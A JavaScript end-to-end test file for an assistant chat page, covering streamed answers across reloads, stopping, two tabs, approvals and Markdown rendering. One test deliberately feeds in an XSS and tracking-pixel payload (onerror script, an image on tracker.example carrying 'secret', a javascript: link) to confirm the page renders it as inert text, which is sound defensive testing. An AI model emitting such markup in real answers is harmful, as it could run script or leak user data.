// What a page shows while an answer is still coming: after a reload, in two tabs, and when it is stopped.
import assert from 'node:assert/strict';
import { test } from 'node:test';

import { heldAfter, piece, playWithClaude, says } from './lib/claude.mjs';
import { answers, finished, Person } from './lib/people.mjs';
import { appears, until, vanishes } from './lib/wait.mjs';

const sentences = Array.from(
  { length: 12 },
  (_, i) => `Sentence ${i + 1} of the report stands here.`,
);
const report = sentences.join(' ');
const half = sentences.slice(0, 6).join(' ');
// What has come when the peer holds the stream after `half`: it sends whole pieces.
const held = report.slice(0, Math.ceil(half.length / piece) * piece).trim();

/** The text of an answer without what stands around it. */
async function textOf(answer) {
  const paragraphs = await answer.locator('p').allInnerTexts();
  return paragraphs
    .filter((text) => text.startsWith('Sentence'))
    .join(' ')
    .trim();
}

async function shows(page, wanted) {
  const answer = answers(page).last();
  await until(
    `an answer reads “…${wanted.slice(-40)}”`,
    async () => (await textOf(answer)) === wanted,
  );
  return answer;
}

async function showsHalf(page) {
  await shows(page, held);
  await appears(page.getByRole('button', { name: 'Stop answering' }));
}

test('a reload in mid-stream goes on where the text was, nothing lost, nothing twice', async () => {
  await playWithClaude({}, async (nora, peer) => {
    const { page } = nora;
    peer.setScript({ turns: [heldAfter(says(report), half)] });
    await page.goto('/assistant');
    await nora.begin('Write the report');
    await showsHalf(page);
    await page.reload();
    await showsHalf(page);
    peer.release();
    await finished(await shows(page, report));
    assert.equal(await answers(page).count(), 1);
    await page.reload();
    await shows(page, report);
    assert.deepEqual(peer.violations, []);
  });
});

test('Stop ends the answer at once and keeps what was said, and the conversation goes on', async () => {
  await playWithClaude({}, async (nora, peer) => {
    const { page } = nora;
    peer.setScript({
      turns: [
        heldAfter(says(report), half),
        says('Here is the rest.', { when: { text: 'go on' } }),
      ],
    });
    await page.goto('/assistant');
    await nora.begin('Write the report');
    await showsHalf(page);
    const givenUp = fetch(`${peer.url}/control/aborted?count=1`);
    await page.getByRole('button', { name: 'Stop answering' }).click();
    await appears(answers(page).getByText('Stopped'));
    await givenUp;
    await shows(page, held);
    await page.reload();
    await shows(page, held);
    await appears(answers(page).getByText('Stopped'));
    const next = await nora.say('Please go on');
    await appears(next.getByText('Here is the rest.'));
    assert.deepEqual(peer.violations, []);
  });
});

test('two tabs on one conversation show the same while it is written, and what either says', async () => {
  await playWithClaude({}, async (nora, peer) => {
    const { page } = nora;
    peer.setScript({
      turns: [heldAfter(says(report), half), says('Yes, twice.', { when: { text: 'second tab' } })],
    });
    await page.goto('/assistant');
    await nora.begin('Write the report');
    await showsHalf(page);
    const other = await nora.tab(new URL(page.url()).pathname);
    await showsHalf(other);
    peer.release();
    await finished(await shows(page, report));
    await finished(await shows(other, report));

    await nora.say('And from the second tab?', other);
    await appears(page.getByRole('article', { name: 'You' }).getByText('And from the second tab?'));
    await appears(answers(page).getByText('Yes, twice.'));
    assert.equal(await answers(page).count(), 2);
    assert.equal(await answers(other).count(), 2);
    assert.deepEqual(peer.violations, []);
  });
});

test('what one tab approves is decided in the other', async () => {
  await Person.play({}, async (nora) => {
    const { page } = nora;
    await nora.api('POST', '/api/contacts', { name: 'Ada Park' });
    await page.goto('/assistant');
    await nora.say('delete Ada Park');
    const other = await nora.tab(new URL(page.url()).pathname);
    await other.getByRole('button', { name: 'Approve' }).click();
    for (const tab of [other, page]) {
      await appears(tab.getByText('Approved by you'));
      await vanishes(tab.getByText('Needs your approval', { exact: true }));
      await finished(answers(tab).last());
    }
    await until('both show the same', async () => {
      const [one, two] = await Promise.all(
        [page, other].map((tab) => answers(tab).last().innerText()),
      );
      return one === two;
    });
  });
});

test('a message written while an answer is coming waits its turn', async () => {
  await playWithClaude({}, async (nora, peer) => {
    const { page } = nora;
    peer.setScript({
      turns: [heldAfter(says(report), half), says('It is done.', { when: { text: 'next one' } })],
    });
    await page.goto('/assistant');
    await nora.begin('Write the report');
    await showsHalf(page);
    await page.getByLabel('Message to the assistant').fill('And the next one');
    await page.keyboard.press('Enter');
    await appears(page.getByText('Next up'));
    peer.release();
    await appears(answers(page).getByText('It is done.'));
    assert.equal(await answers(page).count(), 2);
    assert.deepEqual(peer.violations, []);
  });
});

test('markup in an answer stays text: no script runs and no image is fetched', async () => {
  await playWithClaude({}, async (nora, peer) => {
    const { page } = nora;
    const hostile =
      '<img src=x onerror="document.title=1"> ![pixel](https://tracker.example/p.png?q=secret) [click](javascript:alert(1)) done';
    peer.setScript({ turns: [says(hostile)] });
    const asked = [];
    page.on('request', (request) => asked.push(request.url()));
    await page.goto('/assistant');
    const answer = await nora.say('Show me something');
    await appears(answer.getByText(/done/));
    await vanishes(answer.locator('a[href^="javascript"], img[src*="tracker"]'));
    assert.deepEqual(
      asked.filter((url) => !url.startsWith(nora.server.url)),
      [],
    );
  });
});

test('an answer shows its words and no markup while the renderer is still on its way', async () => {
  await playWithClaude({}, async (nora, peer) => {
    const { page } = nora;
    const text = 'I saved [Jane Miller](/contacts/01890000-0000-7000-8000-000000000000), **CTO**.';
    peer.setScript({ turns: [says(text)] });
    let arrive;
    const arrival = new Promise((done) => (arrive = done));
    await page.route(/\/markdown-[^/]*\.js/, async (route) => {
      await arrival;
      await route.continue();
    });
    await page.goto('/assistant');
    const answer = await nora.say('Save Jane');
    await appears(answer.getByText('I saved Jane Miller, CTO.'));
    assert.equal(await answer.getByRole('link').count(), 0);
    arrive();
    await appears(answer.getByRole('link', { name: 'Jane Miller' }));
  });
});
